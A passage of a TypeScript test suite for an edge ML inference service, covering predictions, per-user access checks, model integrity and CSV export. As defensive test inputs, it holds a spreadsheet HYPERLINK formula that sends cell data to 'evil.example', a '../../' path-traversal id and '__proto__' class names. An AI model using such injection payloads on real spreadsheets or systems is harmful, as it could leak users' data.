  const row = { x: '[[10],[90],[90],[90],[10]]', edge_index: '[[0,0,0],[1,2,3]]', id: '["young","a","b","c","lone"]' }
  const { type, header, predictions } = await world.call(Infer, { inferenceId, rows: [row] })
  expect({ type, header }).toEqual({ type: 'graph', header: ['node', 'age'] })
  expect(predictions.map(({ data, result }) => [data, result])).toEqual([
    [{ node: 'young', age: 10 }, 'no'],
    ...['a', 'b', 'c'].map((node) => [{ node, age: 90 }, 'no']),
    [{ node: 'lone', age: 10 }, 'yes'],
  ])
  await expect(world.call(Infer, { inferenceId, rows: [{ x: '[[1,2]]' }] })).rejects.toMatchObject({
    code: 'inference.graph-wrong',
    params: { part: 'x' },
  })
  await expect(world.call(ExplainRow, { inferenceId, row })).rejects.toMatchObject({ code: 'inference.why-graph' })

  const files = {
    'nodes.csv': 'id,age,label\nyoung,10,no\na,90,no\nb,90,no\nc,90,no\nlone,10,no\nodd,10,\n',
    'edges.csv': 'source,target\na,young\nyoung,b\nc,young\n',
  }
  const draft = await world.upload(await zipOf(files))
  await world.call(SaveDataset, { draftId: draft.draftId, name: `Ages ${count}`, description: 'd', sharing: 'party' })
  const datasetId = findDatasetByTable(world.db, draft.tableName)?.id as string
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  expect(await world.call(GetInference, { inferenceId })).toMatchObject({
    type: 'graphCollection',
    result: { rowCount: 6, header: ['age', 'label'] },
  })
  const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 6 })
  expect(records.map(({ data, result }) => [data.id, result])).toEqual([
    ['lone', 'yes'],
    ['a', 'no'],
    ['b', 'no'],
    ['c', 'no'],
    ['young', 'no'],
    ['odd', 'yes'],
  ])
  const graph = await world.call(GetPredictedGraph, { inferenceId })
  expect(graph.edges).toHaveLength(3)
  expect(graph.nodes.map(({ id, result, label }) => [id, result, label]).toSorted()).toEqual(
    ['a', 'b', 'c', 'young'].map((id) => [id, 'no', 'no']),
  )
  await expect(world.call(GetPredictedGraph, { inferenceId }, person('bob'))).rejects.toMatchObject({
    code: expect.stringMatching(/not-found|not-allowed/),
  })
  await world.call(DeleteInference, { inferenceId })
})

test('shows pictures beside their predictions only to users who may read the rows, and only pictures that were predicted', async () => {
  const draft = await world.upload(
    await zipOf({ 'calm/a.png': await picture('png'), 'wild/b.png': await picture('png') }),
  )
  await world.call(SaveDataset, { draftId: draft.draftId, name: `Cells ${count}`, description: 'd', sharing: 'person' })
  const datasetId = findDatasetByTable(world.db, draft.tableName)?.id as string
  const tokenFor = async (name: string, status: 'completed' | 'failed') => {
    const inferenceId = await created('m1', person(name))
    const resultPath = `results/${inferenceId}-1.csv`
    const lines = ['id,name,ill,prediction,no,yes', '1,a.png,no,no,0.9,0.1'].map((line) => `${line}\r\n`)
    writeFileSync(join(world.dataDir, resultPath), lines.join(''))
    const result: InferenceResult = {
      type: 'visionCollection',
      header: ['name', 'ill'],
      predictions: [],
      resultPath,
      rowCount: 1,
      accuracy: null,
    }
    const stored = findInference(world.db, inferenceId) as StoredInference
    updateInference(world.db, { ...stored, status, datasetId, result })
    const page = world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 5 }, person(name))
    const token = (await page).records[0]?.data.token
    const ofCell = (predicted: number) =>
      world.call(ListPredictedRows, { inferenceId, truth: 0, predicted }, person(name))
    expect((await ofCell(0)).records.map(({ data }) => typeof data.token)).toEqual([typeof token])
    expect((await ofCell(1)).records).toEqual([])
    await world.call(DeleteInference, { inferenceId }, person(name))
    return token
  }
  expect(await tokenFor('alice', 'completed')).toEqual(expect.any(String))
  expect(await tokenFor('alice', 'failed')).toBeUndefined()
  expect(await tokenFor('bob', 'completed')).toBeUndefined()
})

test("shows which part of a dataset's picture the model used, only at the edge that stores it and only to users who may read its rows", {
  meta: { spec: 'screens.inference-result-pictures' },
}, async () => {
  const half = (left: number) =>
    sharp({ create: { width: 64, height: 64, channels: 3, background: '#0000ff' } })
      .composite([{ input: { create: { width: 32, height: 64, channels: 3, background: '#ff0000' } }, left, top: 0 }])
      .png()
      .toBuffer()
  const draft = await world.upload(await zipOf({ 'cold/left.png': await half(0), 'warm/right.png': await half(32) }))
  const { draftId, tableName } = draft
  await world.call(SaveDataset, { draftId, name: `Halves ${count}`, description: 'd', sharing: 'person' })
  const datasetId = findDatasetByTable(world.db, tableName)?.id as string
  const inferenceId = await created('pictures')
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 5 })
  const left = records.find(({ data }) => data.name === 'cold/left.png')?.data ?? expect.fail()
  const view = (token: unknown) =>
    world.app.inject({ url: VIEW_PICTURE_PATH, query: { path: String(left.path), token: String(token) } })
  const shown = await view(left.token)
  expect(shown.statusCode).toBe(200)

  const row = { name: 'left.png', file: shown.rawPayload.toString('base64') }
  const { method, class: predicted, against, parts } = await world.call(ExplainRow, { inferenceId, row })
  expect([method, predicted, against]).toEqual(['covered', 'warm', 'cold'])
  // The model uses the upper row of the picture: red means warm, blue means cold.
  expect(parts?.effects.map(Math.sign)).toEqual([1, 1, 1, 1, -1, -1, -1, -1, ...Array.from({ length: 56 }, () => 0)])

  const bob = person('bob')
  // The calls run one after another, because a rejection during another await would be unhandled.
  for (const ask of [
    () => world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 5 }, bob),
    () => world.call(ExplainRow, { inferenceId, row }, bob),
  ]) {
    await expect(ask()).rejects.toMatchObject({ code: 'inference.not-found' })
  }
  const own = await created('pictures', bob)
  await expect(world.call(InferDataset, { inferenceId: own, datasetId }, bob)).rejects.toMatchObject({
    code: 'dataset.not-allowed',
  })
  expect((await view(await world.fake.edgeToken(bob))).statusCode).toBeGreaterThanOrEqual(400)
  await world.call(DeleteInference, { inferenceId: own }, bob)
  await world.call(DeleteInference, { inferenceId })
})

test('refuses a token signed by the platform for querying a model or reading inputs, answers, results or files', {
  meta: { claim: 'sessions.token-queries-model' },
}, async () => {
  const { inferenceId, datasetId, path } = await withDatasetResult()
  const stored = findInference(world.db, inferenceId)
  const [row, rows, text] = [{ age: 50, sex: 'm' }, [{ age: 50, sex: 'm' }], 'a']
  const entries = world.decisions().length
  const existing = await world.call(ListInferences, {})
  for (const claims of [person('alice'), person('alice', { role: 'admin' }), person('ghost')]) {
    const minted = { token: await world.fake.edgeToken(claims) }
    const refused = { code: 'edge.session-required' }
    for (const call of [
      () => world.call(GetAskedModel, { modelId: 'm1' }, minted),
      () => world.call(InferOnce, { modelId: 'm1', rows }, minted),
      () => world.call(ExplainOnce, { modelId: 'm1', row }, minted),
      () => world.call(CreateInference, { modelId: 'm1', name: 'Minted', description: 'd' }, minted),
      () => world.call(Infer, { inferenceId, rows }, minted),
      () => world.call(InferText, { inferenceId, text }, minted),
      () => world.call(InferImages, { inferenceId }, minted),
      () => world.call(InferDataset, { inferenceId, datasetId }, minted),
      () => world.call(ExplainRow, { inferenceId, row }, minted),
      () => world.call(ListInferences, {}, minted),
      () => world.call(GetInference, { inferenceId }, minted),
      () => world.call(ListPredictedRows, { inferenceId }, minted),
      () => world.call(GetPredictedGraph, { inferenceId }, minted),
      () => world.call(DeleteInference, { inferenceId }, minted),
      () => world.call(ListHeldDatasets, {}, minted),
    ]) {
      await expect(call()).rejects.toMatchObject(refused)
    }
    const file = await world.app.inject({ url: `/${path}`, headers: { 'x-access-token': minted.token } })
    const linked = await world.app.inject({ url: `/${path}?token=${await world.fake.edgeToken(claims)}` })
    expect([file.json().error, linked.json().error]).toEqual(['edge.session-required', 'edge.session-required'])
  }
  expect(world.decisions()).toHaveLength(entries)
  expect(findInference(world.db, inferenceId)).toEqual(stored)
  expect(await world.call(ListInferences, {})).toEqual(existing)
  await world.call(DeleteInference, { inferenceId })
})

test('gives the inference page the stored model and the datasets that the user may read', async () => {
  expect(await world.call(GetAskedModel, { modelId: 'm1' })).toEqual({
    id: 'm1',
    name: 'Illness',
    output: card.output,
    input: { kind: 'table', columns: [expect.objectContaining({ column: 'age' }), expect.anything()] },
  })
  await expect(world.call(GetAskedModel, { modelId: 'nobody’s' })).rejects.toMatchObject({ code: 'model.not-found' })

  const taskId = 'held'
  const all = await world.dataSet(peopleCsv(9), 'Held by all')
  const own = await world.dataSet(peopleCsv(9), 'Held by one', person('alice'), { sharing: 'person' })
  await world.call(OfferRows, { taskId, tableName: own.tableName, rows: [] })
  const names = async (as = person('alice')) => (await world.call(ListHeldDatasets, {}, as)).map(({ id }) => id)
  expect((await names()).slice(0, 2)).toEqual([own.datasetId, all.datasetId])
  const others = await names(person('bob', { role: 'admin' }))
  expect(others[0]).toBe(all.datasetId)
  expect(others).not.toContain(own.datasetId)
})

test('refuses a text for a model of tables, and explains why', {
  meta: { spec: 'calls.flModelInference/inference_nlp' },
}, async () => {
  const inferenceId = await created()
  await expect(world.call(InferText, { inferenceId, text: 'a' })).rejects.toMatchObject({ code: 'inference.not-texts' })
})

test.each([
  [{ age: 60 }, 'inference.column-missing', { column: 'sex' }],
  [{ age: 'old', sex: 'm' }, 'inference.not-number', { column: 'age' }],
])(
  'explains what is wrong in a prediction form: %j',
  { meta: { spec: 'calls.flModelInference/inference' } },
  async (row, code, params) => {
    const inferenceId = await created()
    await expect(world.call(Infer, { inferenceId, rows: [row as never] })).rejects.toMatchObject({ code, params })
    expect(await statusOf(inferenceId)).toBe('created')
  },
)

test.each([
  ['Age,sex\n60,m\n', /no column “age”.*needs\. The nearest name in the dataset is “Age”/],
  ['sex,years of age\nm,60\n', /no column “age”.*nearest name in the dataset is “years of age”/],
  ['age\n60\n', /no column “sex”, which the model needs\. Add the column/],
])('names the missing column of the model and the most similar column of the dataset: %j', async (csv, reason) => {
  const { datasetId } = await world.dataSet(csv, `Lacking ${csv.length}`)
  const inferenceId = await created()
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'failed')
  expect((await world.call(GetInference, { inferenceId })).inference.failure).toMatch(reason)
})

test('predicts a whole dataset into a file that opens only in the session of a user who may read its rows', {
  meta: {
    spec: [
      'screens.inference-result-collection',
      'states.inference-lifecycle',
      'calls.flModelInference/inferenceByDataCollection',
    ],
  },
}, async () => {
  const csv = `age,sex,ill\n${Array.from({ length: 5_000 }, (_, i) => `${i % 2 ? 80 : 20},m,${i % 4 === 1 ? '' : i % 2 ? 'yes' : 'no'}`).join('\n')}`
  const { datasetId } = await world.dataSet(csv, 'Cohort', person('alice'), { sharing: 'person' })
  const inferenceId = await created()
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')

  const { result, type } = await world.call(GetInference, { inferenceId })
  expect(type).toBe('tabularCollection')
  expect(result).toMatchObject({ rowCount: 5_000, accuracy: 1, predictions: [] })
  const path = result?.resultPath ?? ''
  const csvOut = await world.fetchFile(`/${path}`)
  const lines = csvOut.body.split('\r\n')
  expect(lines[0]).toBe('\uFEFFid,age,sex,ill,prediction,probability no,probability yes,outside')
  expect(lines).toHaveLength(5_002)
  expect(lines[5_000]).toMatch(/^5000,80,m,yes,yes,/)
  expect(csvOut.headers['content-disposition']).toContain('attachment')

  const other = async (as: ReturnType<typeof person>) => (await world.fetchFile(`/${path}`, as)).json().error
  expect(await other(person('bob', { role: 'admin' }))).toBe('dataset.not-allowed')
  expect(await other(person('bea'))).toBe('inference.not-found')

  await world.call(DeleteInference, { inferenceId })
  expect(readdirSync(join(world.dataDir, 'results'))).toEqual([])
})

test('predicts a form and a dataset with an imported model, and says what is not available for it', {
  meta: { spec: 'screens.upload-external-model' },
}, async () => {
  const inferenceId = await created('imported')
  const answer = await world.call(Infer, { inferenceId, rows: [{ age: 2, chol: 1 }] })
  expect(answer.predictions).toMatchObject([{ result: 'malignant' }])
  // The model contains no statistics of its training rows, so missing values cannot be substituted.
  expect(await world.call(ExplainRow, { inferenceId, row: { age: 2, chol: 1 } })).toMatchObject({
    columns: [],
    untold: ['age', 'chol'],
  })

  const { file: written } = await withDatasetResult('age,chol,biopsy\n0,0,benign\n2,1,malignant\n', 'imported')
  const lines = readFileSync(written, 'utf8').split('\r\n')
  expect(lines[0]).toBe('\uFEFFid,age,chol,biopsy,prediction,probability benign,probability malignant')
  expect(lines.slice(1, 3)).toEqual([
    expect.stringMatching(/^1,0,0,benign,benign,/),
    expect.stringMatching(/^2,2,1,malignant,malignant,/),
  ])

  const { datasetId } = await world.dataSet('age,chol\n1,\n2,1\n', 'Gaps')
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'failed')
  const { inference } = await world.call(GetInference, { inferenceId })
  expect(inference.failure).toMatch(/^The model returned no number for part of this data\./)
})

test('fails the task if the dataset lacks columns of the model, and names the reason', async () => {
  const { datasetId } = await world.dataSet('age\n1\n2\n', 'Narrow')
  const inferenceId = await created()
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'failed')
  const { inference } = await world.call(GetInference, { inferenceId })
  expect(inference.failure).toBe(
    'The dataset has no column “sex”, which the model needs. Add the column or choose another dataset, then predict again.',
  )
  // The task can be run again with another input.
  expect(inference.abilities).toEqual({ run: true, delete: true })
})

test('shows members their own tasks and administrators all tasks, and lets other users neither use nor delete them', {
  meta: { spec: 'calls.flModelInference/list' },
}, async () => {
  const inferenceId = await created()
  const bob = person('bob')
  for (const attempt of [
    () => world.call(GetInference, { inferenceId }, bob),
    () => world.call(Infer, { inferenceId, rows: [{ age: 1, sex: 'm' }] }, bob),
    () => world.call(DeleteInference, { inferenceId }, bob),
  ]) {
    await expect(attempt()).rejects.toMatchObject({ code: 'inference.not-found' })
  }
  expect((await world.call(ListInferences, {}, bob)).total).toBe(0)
  const all = await world.call(ListInferences, { name: `task ${count}` }, person('dora', { role: 'admin' }))
  expect(all.records.map(({ id }) => id)).toEqual([inferenceId])
})

test('refuses to predict rows that the user may not read', async () => {
  const { datasetId } = await world.dataSet('age,sex\n1,m\n', 'Mine alone', person('alice'), { sharing: 'person' })
  const inferenceId = await created('m1', person('bob'))
  await expect(world.call(InferDataset, { inferenceId, datasetId }, person('bob'))).rejects.toMatchObject({
    code: 'dataset.not-allowed',
  })
})

test.each([
  ['nothing', 'model.not-found'],
  ['broken', 'model.refused-unreadable'],
  ['stealing', 'model.refused-external-data'],
  ['swapped in transit', 'model.changed'],
  ['../../edge.sqlite', 'model.not-found'],
])('fails the task of a model that cannot be fetched or accepted (%s), and names the reason', async (modelId, code) => {
  const inferenceId = await created(modelId)
  expect(findInference(world.db, inferenceId)?.failure?.code).toBe(code)
  await expect(world.call(Infer, { inferenceId, rows: [{ age: 1 }] })).rejects.toMatchObject({
    code: 'inference.not-ready',
  })
})

test('logs accepted and refused models with the hashes of their files', async () => {
  const of = (modelId: string) =>
    world
      .decisions()
      .filter(({ data }) => data.modelId === modelId)
      .map(({ kind, data }) => [kind, data.sha256, data.because])
  const inferenceId = await created('accepted')
  await world.call(Infer, { inferenceId, rows: [{ age: 1, sex: 'm' }] })
  const sha256 = sha256Of(file)
  expect(of('accepted')).toEqual([
    ['model-accepted', sha256, undefined],
    ['inference', sha256, undefined],
  ])
  await created('stealing')
  expect(of('stealing').at(-1)).toEqual(['model-refused', sha256Of(readingElsewhere), 'model.refused-external-data'])
  expect(existsSync(keptFile('stealing'))).toBe(false)
  await created('swapped in transit')
  expect(of('swapped in transit').at(-1)).toEqual(['model-refused', sha256, 'model.changed'])
})

test('fails the task of a model that needs more memory than is available, and keeps the edge running', async () => {
  const inferenceId = await created('outgrowing')
  await expect(world.call(Infer, { inferenceId, rows: [{ age: 1 }] })).rejects.toMatchObject({
    code: 'inference.model-ended',
  })
  expect(await statusOf(inferenceId)).toBe('created')
  const other = await created()
  expect((await world.call(Infer, { inferenceId: other, rows: [{ age: 99, sex: 'm' }] })).rowCount).toBe(1)
})

test('fetches a model file again if it was altered on disk, and refuses it while the platform is unreachable', async () => {
  const inferenceId = await created()
  const infer = () => world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
  await infer()
  // Simulates a restart of the edge.
  await world.runtime.close()
  writeFileSync(keptFile('m1'), readingElsewhere)
  expect((await infer()).predictions[0]?.result).toBe('yes')
  expect(readFileSync(keptFile('m1'))).toEqual(file)
  expect(world.decisions('model-refused').at(-1)?.data).toMatchObject({
    modelId: 'm1',
    because: 'model.changed',
    sha256: sha256Of(readingElsewhere),
  })

  await world.runtime.close()
  writeFileSync(keptFile('m1'), readingElsewhere)
  await world.fake.goAway()
  await until(() => !world.link.isConnected)
  await expect(infer()).rejects.toMatchObject({ code: 'model.changed' })
  await world.fake.comeBack()
  await until(() => world.link.isConnected)
  expect((await infer()).predictions[0]?.result).toBe('yes')
})

test('refuses an inference task with the name of another task', {
  meta: { spec: ['validation.inference-task-fields', 'calls.flModelInference/createJob'] },
}, async () => {
  const create = (name: string, description = 'd') => world.call(CreateInference, { modelId: 'm1', name, description })
  await create('Twice')
  await expect(create('Twice')).rejects.toMatchObject({ code: 'inference.name-taken' })
  await expect(create(' ')).rejects.toMatchObject({ code: 'inference.name-required' })
  await expect(create('x'.repeat(21))).rejects.toMatchObject({ code: 'model.text-too-long' })
})

test('uses a stored model while the platform is unreachable, and resumes a job after a restart', async () => {
  const { datasetId } = await world.dataSet('age,sex\n1,m\n99,m\n', 'Later')
  await world.fake.goAway()
  await until(() => !world.link.isConnected)
  const inferenceId = await world.call(CreateInference, { modelId: 'm1', name: 'Away', description: 'd' })
  await until(() => findInference(world.db, inferenceId)?.status === 'created')
  const result = await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
  expect(result.predictions[0]?.result).toBe('yes')

  interrupt(inferenceId, { datasetId })
  await resume(world.deps.inference)
  await until(() => findInference(world.db, inferenceId)?.status === 'completed')
  expect(findInference(world.db, inferenceId)?.result).toMatchObject({ type: 'tabularCollection', rowCount: 2 })
  await world.fake.comeBack()
})

test('if the platform was unreachable, fetches the model and creates the task when the platform is back', async () => {
  const model = world.fake.models.get('m1')
  if (model) world.fake.models.set('late', model)
  await world.fake.goAway()
  await until(() => !world.link.isConnected)
  const fetched = vi.spyOn(world.deps.inference.platform, 'modelFile')
  const inferenceId = await world.call(CreateInference, { modelId: 'late', name: 'Late', description: 'd' })
  await until(() => fetched.mock.settledResults[0]?.type === 'rejected')
  await world.fake.comeBack()
  await until(() => findInference(world.db, inferenceId)?.status !== 'creating')
  expect(findInference(world.db, inferenceId)).toMatchObject({ status: 'created', failure: null })
  fetched.mockRestore()
})

test('replaces the result for a dataset with that for a form, and deletes the file of the first result', async () => {
  const { inferenceId, file } = await withDatasetResult()
  const wrong = world.call(Infer, { inferenceId, rows: [{ age: 'old', sex: 'm' }] })
  await expect(wrong).rejects.toMatchObject({ code: 'inference.not-number' })
  expect(await statusOf(inferenceId)).toBe('completed')
  expect(existsSync(file)).toBe(true)

  await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
  expect(existsSync(file)).toBe(false)
  expect((await world.call(GetInference, { inferenceId })).type).toBe('tabular')
})

test('refuses to delete or reuse a task while it predicts a form, and does not create a deleted task again', async () => {
  const { inferenceId, datasetId } = await withDatasetResult()
  const letGo = holdPredictions(world)
  const answer = world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
  await until(async () => (await statusOf(inferenceId)) === 'running')
  const busy = { code: 'inference.busy' }
  await expect(world.call(DeleteInference, { inferenceId })).rejects.toMatchObject(busy)
  await expect(world.call(InferDataset, { inferenceId, datasetId })).rejects.toMatchObject(busy)
  deleteInferenceRow(world.db, inferenceId)
  letGo()
  await answer
  expect(findInference(world.db, inferenceId)).toBeUndefined()
})

test('deletes the prediction file of a task that was deleted during its job', async () => {
  const { datasetId } = await world.dataSet('age,sex\n1,m\n', `Gone ${count}`)
  const inferenceId = await created()
  const before = results()
  const letGo = holdPredictions(world)
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(() => results().some((name) => name.endsWith('.tmp')))
  deleteInferenceRow(world.db, inferenceId)
  letGo()
  await until(() => results().length === before.length)
  expect(results()).toEqual(before)
  expect(findInference(world.db, inferenceId)).toBeUndefined()
})

test('at start, removes files that belong to no result, and reports that the prediction of a form was interrupted', async () => {
  const { inferenceId, file } = await withDatasetResult()
  for (const name of ['orphan.csv', `${inferenceId}-1.csv.1f.tmp`]) {
    writeFileSync(join(world.dataDir, 'results', name), 'x')
  }
  interrupt(inferenceId, { datasetId: null })
  await resume(world.deps.inference)
  expect(results()).not.toContain('orphan.csv')
  expect(results().filter((name) => name.endsWith('.tmp'))).toEqual([])
  expect(existsSync(file)).toBe(true)
  expect(findInference(world.db, inferenceId)).toMatchObject({
    status: 'failed',
    failure: { code: 'inference.interrupted' },
  })
})

test('stops retrying the prediction of a dataset that ends the edge process each time', async () => {
  const { inferenceId, datasetId } = await withDatasetResult()
  const letGo = holdPredictions(world)
  await world.call(InferDataset, { inferenceId, datasetId })
  // Each start finds the job as the previous killed process left it, and resumes it.
  for (let start = 0; start < 2; start += 1) await resume(world.deps.inference)
  expect(findInference(world.db, inferenceId)).toMatchObject({ status: 'running', attempts: 3 })
  await resume(world.deps.inference)
  await until(() => findInference(world.db, inferenceId)?.status === 'failed')
  const { inference } = await world.call(GetInference, { inferenceId })
  expect(inference.failure).toBe(
    'The edge stopped 3 times while predicting this dataset. Choose a smaller dataset, or contact your administrator.',
  )
  expect(inference.abilities.run).toBe(true)
  letGo()
})

test("does not show an earlier result to a user who may read only the dataset of the task's current job", async () => {
  const alone = await world.dataSet('age,sex\n1,m\n', 'Alone', person('alice'), { sharing: 'person' })
  const shared = await world.dataSet('age\n1\n', 'Shared, but narrow')
  const inferenceId = await created()
  await world.call(InferDataset, { inferenceId, datasetId: alone.datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  const path = findInference(world.db, inferenceId)?.result?.resultPath ?? ''
  await world.call(InferDataset, { inferenceId, datasetId: shared.datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'failed')
  const admin = person('bob', { role: 'admin' })
  expect((await world.fetchFile(`/${path}`, admin)).json().error).toBe('dataset.not-allowed')
  expect((await world.fetchFile(`/${path}`)).statusCode).toBe(200)
})

const linesOf = (file: string) => readFileSync(file, 'utf8').replace('\uFEFF', '').split('\r\n').slice(0, -1)

test('escapes and counts cells, headers and classes that a spreadsheet would run as formulas, but not numbers', async () => {
  const csv = [
    'age,sex,=SUM(A1),-note,delta,code',
    '99,m,"=HYPERLINK(""http://evil.example/?""&A2,""ok"")",+1 555,-1.5,-1.5',
    '1,m,@SUM(1+1),"\ttab",-2e-3,+7',
    '1,f,fine,-x,3,-y',
  ].join('\n')
  const { inferenceId, file } = await withDatasetResult(csv, 'formulas')
  const [header, ...rows] = linesOf(file)
  expect(header).toBe(
    "id,age,sex,'=SUM(A1),'-note,delta,code,prediction,probability =1+1,probability __proto__,outside",
  )
  const cut = rows.map((row) => row.split(',').slice(0, -3).join(','))
  expect(cut).toEqual([
    `1,99,m,"'=HYPERLINK(""http://evil.example/?""&A2,""ok"")",'+1 555,-1.5,-1.5,__proto__`,
    "2,1,m,'@SUM(1+1),'\ttab,-0.002,+7,'=1+1",
    "3,1,f,fine,'-x,3,'-y,'=1+1",
  ])
  // The probabilities of both classes are in the file, whatever the names of the classes.
  for (const row of rows) {
    const [one, other] = row.split(',').slice(-3, -1).map(Number)
    expect(one).toBeGreaterThan(0)
    expect((one ?? 0) + (other ?? 0)).toBeCloseTo(1, 12)
  }
  expect((await world.call(GetInference, { inferenceId })).result).toMatchObject({ harmlessCells: 10 })
})

test('returns the probability of each class of a form, whatever the name of the class', async () => {
  const inferenceId = await created('formulas')
  const { predictions } = await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
  const [prediction] = predictions
  expect(prediction?.result).toBe('__proto__')
  expect(Object.keys(prediction?.kind === 'classes' ? prediction.probabilities : {})).toEqual(['=1+1', '__proto__'])
})

test('predicts the clusters of rows in a form and in a dataset', async () => {
  const { inferenceId, file } = await withDatasetResult('age,sex\n61,m\n40,f\n', 'clusters')
  const lines = linesOf(file)
  expect(lines[0]).toBe('id,age,sex,prediction,distance,outside')
  expect(lines.slice(1, 3)).toEqual([
    expect.stringMatching(/^1,61,m,1,0\.(1|09)/),
    expect.stringMatching(/^2,40,f,0,0/),
  ])

  const rows = [{ age: 61, sex: 'm' }]
  const { predictions } = await world.call(Infer, { inferenceId, rows })
  expect(predictions).toEqual([{ kind: 'clusters', data: rows[0], result: '1', distance: expect.closeTo(0.1, 9) }])
  expect((await world.call(GetInference, { inferenceId })).inference.output).toMatchObject({ kind: 'clusters' })
})

test('keeps the names of input columns, and gives other names to the columns that it adds', async () => {
  const csv = 'age,sex,Prediction,prediction (model),prediction (2),probability yes\n99,m,a,b,c,d\n'
  const { file } = await withDatasetResult(csv)
  const [header, row] = linesOf(file)
  expect(header).toBe(
    'id,age,sex,Prediction,prediction (model),prediction (2),probability yes,' +
      'prediction (model 2),probability no,probability yes (model),outside',
  )
  expect(row).toMatch(/^1,99,m,a,b,c,d,yes,0\.\d+,0\.\d+,$/)
})

test('reports zero escaped cells for a result without any', async () => {
  const { inferenceId } = await withDatasetResult()
  expect((await world.call(GetInference, { inferenceId })).result?.harmlessCells).toBe(0)
})

test("returns no accuracy for a dataset that lacks the label, whatever the label's name", async () => {
  const { inferenceId } = await withDatasetResult('age,sex\n1,m\n', 'oddly named')
  expect((await world.call(GetInference, { inferenceId })).result?.accuracy).toBeNull()
})

test('lists the wrong predictions of a dataset first, most confident ones at the top, in pages', {
  meta: { spec: 'screens.inference-result-collection' },
}, async () => {
  const right = Array.from({ length: 3_000 }, (_, at) => `${at % 2 ? 95 : 5},m,${at % 2 ? 'yes' : 'no'}`)
  const wrong = ['60,m,no', '99,m,no', '1,f,yes', '70,x,no']
  const { inferenceId } = await withDatasetResult(`age,sex,ill\n${[...right, '40,f,', ...wrong].join('\n')}\n`)
  const page = async (pageNo: number, pageSize: number) =>
    world.call(ListPredictedRows, { inferenceId, pageNo, pageSize })
  const first = await page(1, 5)
  expect(first.total).toBe(3_005)
  expect(first.records.map(({ data }) => [data.id, data.age, data.ill])).toEqual([
    ...[
      ['3004', '1', 'yes'],
      ['3003', '99', 'no'],
      ['3005', '70', 'no'],
      ['3002', '60', 'no'],
    ],
    // The correct predictions follow, in the order of the data, and at the end the rows without a label.
    ['1', '5', 'no'],
  ])
  const [top] = first.records
  expect(top?.kind === 'classes' && top.probabilities.no).toBeGreaterThan(0.99)
  expect((await page(100, 30)).records.map(({ data }) => data.id)).toEqual(
    Array.from({ length: 30 }, (_, at) => String(2_967 + at)),
  )
  expect((await page(101, 30)).records.at(-1)?.data).toMatchObject({ id: '3001', ill: null })
  expect(world.decisions('result-read').at(-1)?.data).toMatchObject({ inferenceId, from: 3_000, rows: 5 })

  const { result } = await world.call(GetInference, { inferenceId })
  expect(result?.summary?.confusion).toEqual([
    [1500, 3],
    [1, 1500],
    [0, 0],
  ])
})

describe('a cell of the confusion matrix', () => {
  const right = Array.from({ length: 40 }, (_, at) => `${at % 2 ? 95 : 5},m,${at % 2 ? 'yes' : 'no'}`)
  const odd = ['60,m,no', '99,m,no', '1,f,yes', '99,m,maybe', '98,m,perhaps', '1,f,maybe', '40,f,']
  const csv = `age,sex,ill\n${[...right, ...odd].join('\n')}\n`
  const cellsOf = (
    inferenceId: string,
    truth: number,
    predicted: number,
    page: { pageNo?: number; pageSize?: number } = {},
  ) => world.call(ListPredictedRows, { inferenceId, truth, predicted, ...page })

  test('lists exactly the rows that the cell counts, in pages', {
    meta: { spec: 'screens.confusion-matrix-rows' },
  }, async () => {
    const { inferenceId } = await withDatasetResult(csv)
    const { result } = await world.call(GetInference, { inferenceId })
    const confusion = result?.summary?.confusion ?? []
    expect(confusion).toEqual([
      [20, 2],
      [1, 20],
      [1, 2],
    ])
    for (const [truth, counts] of confusion.entries()) {
      for (const [predicted, count] of counts.entries()) {
        const { total, records } = await cellsOf(inferenceId, truth, predicted, { pageSize: 50 })
        expect({ total, rows: records.length }).toEqual({ total: count, rows: count })
        for (const { data, result } of records) {
          expect(result).toBe(['no', 'yes'][predicted])
          if (truth < 2) expect(data.ill).toBe(['no', 'yes'][truth])
          else expect(['maybe', 'perhaps']).toContain(data.ill)
        }
      }
    }
    // For a cell, the most confident predictions come first. Without a cell, the order is the usual one.
    expect((await cellsOf(inferenceId, 0, 1)).records.map(({ data }) => data.age)).toEqual(['99', '60'])
    const second = await cellsOf(inferenceId, 1, 1, { pageNo: 2, pageSize: 15 })
    expect([second.total, second.pages, second.records.length]).toEqual([20, 2, 5])
    expect(world.decisions('result-read').at(-1)?.data).toMatchObject({ truth: 1, predicted: 1, rows: 5 })
  })

  test('finds a cell of the confusion matrix by its classes, whatever their names', {
    meta: { spec: 'screens.confusion-matrix-rows' },
  }, async () => {
    const { inferenceId } = await withDatasetResult('age,sex,ill\n99,m,=1+1\n1,f,=1+1\n1,f,__proto__\n', 'formulas')
    const { records, total } = await cellsOf(inferenceId, 0, 0)
    expect([total, records.map(({ data }) => data.ill)]).toEqual([1, ['=1+1']])
    expect((await cellsOf(inferenceId, 1, 0)).records.map(({ data }) => data.id)).toEqual(['3'])
  })

  test.each<[string, string, string, { truth?: number; predicted?: number }]>([
    ['a prediction that does not exist', csv, 'm1', { truth: 0, predicted: 2 }],
    ['a label that does not exist', csv, 'm1', { truth: 3, predicted: 0 }],
    ['a label without a prediction', csv, 'm1', { truth: 0 }],
    ['a prediction without a label', csv, 'm1', { predicted: 0 }],
    ['data without the label', 'age,sex\n1,m\n', 'm1', { truth: 0, predicted: 0 }],
